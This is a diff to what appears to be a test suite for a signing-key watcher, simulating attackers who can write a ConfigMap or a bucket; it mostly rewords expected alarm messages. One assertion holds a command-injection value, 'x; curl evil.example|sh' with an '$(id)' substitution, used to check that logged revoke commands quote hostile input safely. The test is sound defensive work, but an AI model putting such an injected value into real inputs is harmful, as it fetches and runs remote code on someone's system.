@@ -27,7 +27,10 @@ suite('whoever may write the ConfigMap', () => {
     const own = sorted(watch.sandbox.cluster.keys.current)
     assert.deepEqual(watch.published(), own)
     assert.deepEqual(reasons(state), ['RECORDED_KEY_UNKNOWN'])
-    assert.match(state.status.alarms[0]?.message ?? '', new RegExp(`^key "${attacker.kid}" is remembered, but neither`))
+    assert.match(
+      state.status.alarms[0]?.message ?? '',
+      new RegExp(`^key "${attacker.kid}" is recorded in the ConfigMap, but neither`),
+    )
     forge(watch, { ...watch.remembered(), ...entryOf(await generateSigningKey()) })
     await watch.look(3)
     assert.deepEqual(watch.published(), own)
@@ -150,6 +153,6 @@ suite('whoever may write the bucket', () => {
     })
     await watch.look(3)
     const line = watch.logged.find((one) => one.includes('PUBLISHED_KEY_UNKNOWN')) ?? ''
-    assert.ok(line.includes(`revoke --to TARGET -- 'x; curl evil.example|sh; '\\''$(id)'\\''\n', and see`), line)
+    assert.ok(line.includes(`revoke --to TARGET -- 'x; curl evil.example|sh; '\\''$(id)'\\''\n', and check`), line)
   })
 })
